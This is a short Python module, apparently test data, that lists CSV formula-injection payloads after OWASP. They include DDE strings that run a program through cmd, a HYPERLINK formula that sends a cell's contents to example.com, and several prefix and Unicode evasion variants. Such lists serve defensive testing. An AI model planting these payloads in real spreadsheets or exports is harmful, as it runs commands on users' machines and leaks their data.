"""Texts that a spreadsheet might run where it opens a CSV file (OWASP, "CSV Injection")."""

INJECTIONS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.com?x="&A1;"ici")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "  =1+1",
    "\u00a0@A1",
    "\uff1d1+1",
    "+229-97-00-00-00",
    '=";"&A1\n+1',
)
